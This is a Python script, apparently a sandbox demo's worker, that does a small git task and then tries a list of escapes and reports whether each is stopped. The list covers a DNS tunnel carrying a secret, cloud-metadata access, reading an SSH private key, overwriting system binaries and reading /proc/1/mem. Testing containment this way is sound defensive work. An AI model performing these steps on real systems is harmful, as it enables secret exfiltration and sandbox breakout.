"""The demo's worker: real work in its workspace, then every way out that it can think of.

Runs inside a card, on the image's own python3. Exits 1 when an attempt to get out succeeds.
"""

import ctypes
import errno
import os
import socket
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

CLONE_NEWUSER = 0x10000000
GITHUB, UNLISTED, METADATA, CARD_DNS = "203.0.113.10", "198.51.100.66", "169.254.169.254", "169.254.1.1"


def work() -> None:
    """Clone over HTTPS through the wall, edit, commit."""
    git("clone", "-q", "https://github.com/octo/hello", "hello")
    os.chdir("hello")
    Path("hello.py").write_text('print("hello from inside")\n', encoding="ascii")
    git("config", "user.email", "worker@card.invalid")
    git("config", "user.name", "worker")
    git("commit", "-qam", "Say it at once")
    sys.stdout.write(git("log", "--oneline"))


def git(*words: str) -> str:
    """Run git and return what it prints."""
    return subprocess.run(["git", *words], check=True, stdout=subprocess.PIPE, text=True).stdout


def connect(address: str, port: int) -> None:
    """Open a TCP connection."""
    socket.create_connection((address, port), timeout=3).close()


def tunnel() -> None:
    """Ask the card's own resolver for a TXT record of a name that carries a secret."""
    name = b"".join(bytes([len(label)]) + label for label in (b"c2VjcmV0", b"tunnel", b"example")) + b"\0"
    query = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(3)
        asker.sendto(query, (CARD_DNS, 53))
        asker.recv(512)


def new_namespace() -> None:
    """Make a user namespace, in which this process would hold every capability."""
    if ctypes.CDLL(None, use_errno=True).unshare(CLONE_NEWUSER) != 0:
        raise OSError(ctypes.get_errno(), "unshare")


ATTEMPTS: tuple[tuple[str, Callable[[], object]], ...] = (
    ("an unlisted host, port 443", lambda: connect(UNLISTED, 443)),
    ("ssh on a listed host's address", lambda: connect(GITHUB, 22)),
    ("cloud metadata", lambda: connect(METADATA, 80)),
    ("a DNS tunnel through the card's resolver", tunnel),
    ("reading a file of the bench outside", lambda: Path("/home/card/private/id_ed25519").read_bytes()),
    ("writing beside the workspace", lambda: Path("/usr/local/bin/git").write_bytes(b"")),
    ("writing to what may be read", lambda: Path(__file__).write_bytes(b"")),
    ("a new user namespace", new_namespace),
    ("another process's memory", lambda: Path("/proc/1/mem").read_bytes()),
)


def main() -> int:
    """Work, then try to get out."""
    work()
    escaped = 0
    for name, attempt in ATTEMPTS:
        try:
            attempt()
        except OSError as error:
            sys.stdout.write(f"tried {name:42} stopped: {errno.errorcode.get(error.errno or 0, repr(error))}\n")
        else:
            escaped += 1
            sys.stdout.write(f"tried {name:42} GOT OUT\n")
    return 1 if escaped else 0


if __name__ == "__main__":
    sys.exit(main())
